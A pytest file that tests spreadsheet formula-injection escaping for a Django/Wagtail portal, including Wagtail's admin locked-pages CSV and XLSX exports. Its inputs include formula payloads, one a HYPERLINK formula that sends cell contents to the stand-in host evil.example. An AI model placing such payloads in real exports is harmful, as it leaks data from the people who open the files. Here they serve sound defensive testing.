"""portal.spreadsheets (safe_cell / unescape_cell) and Wagtail's admin spreadsheet downloads made
safe by portal.admin_spreadsheet_exports."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from django.contrib.auth.models import AbstractUser
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from portal.spreadsheets import safe_cell, unescape_cell
from tests.scenarios.site import SiteTree
from tests.security.fuzzing import fuzz_settings
from tests.spreadsheet_cells import cells_of, formula_cells


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
        ("+1+1", "'+1+1"),
        ("-SUM(A1:A3)", "'-SUM(A1:A3)"),
        ("- madde", "'- madde"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # already quoted text keeps its own quote
        ("-12.5", "-12.5"),  # a number to a spreadsheet, not a formula
        ("+3", "+3"),
        ("'hello", "'hello"),
        ("Kreş açıldı", "Kreş açıldı"),
        ("", ""),
        (-12.5, -12.5),
        (Decimal("-3"), Decimal("-3")),
        (-7, -7),
        (None, None),
        (True, True),
        (date(2025, 6, 30), date(2025, 6, 30)),
    ],
)
def test_safe_cell_quotes_formula_text_only(value: object, written: object) -> None:
    assert safe_cell(value) == written
    assert type(safe_cell(value)) is type(written)
    assert unescape_cell(safe_cell(value)) == value


@pytest.mark.parametrize("typed", ["'=1", "'+x", "'@x"])
def test_unescape_reads_a_quote_typed_before_a_formula_as_the_text_marker(typed: str) -> None:
    assert unescape_cell(typed) == typed[1:]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 0123456789.ağ"), max_size=8) | st.text())
@fuzz_settings(max_examples=500)
def test_any_text_is_written_safe_and_read_back_exactly(text: str) -> None:
    written = safe_cell(text)
    assert formula_cells([written]) == []
    assert unescape_cell(written) == text


@pytest.mark.django_db
def test_wagtail_admin_report_downloads_hold_no_formula(
    site_tree: SiteTree, django_user_model: type[AbstractUser]
) -> None:
    title = '=HYPERLINK("https://evil.example/?d="&A2,"Kadıköy")'
    user = django_user_model.objects.create_superuser("@yonetici", password="x-secret-123")
    page = site_tree.kadikoy
    page.title = page.draft_title = title
    page.locked, page.locked_by, page.locked_at = True, user, timezone.now()
    page.save()
    client = Client(HTTP_HOST="localhost")
    client.force_login(user)

    # Wagtail's locked pages report: page titles and the user who locked them.
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("wagtailadmin_reports:locked_pages"), {"export": fmt})
        assert response.status_code == 200, fmt
        cells = cells_of(response)
        assert formula_cells(cells) == [], fmt
        assert f"'{title}" in cells, fmt
        assert "'@yonetici" in cells, fmt
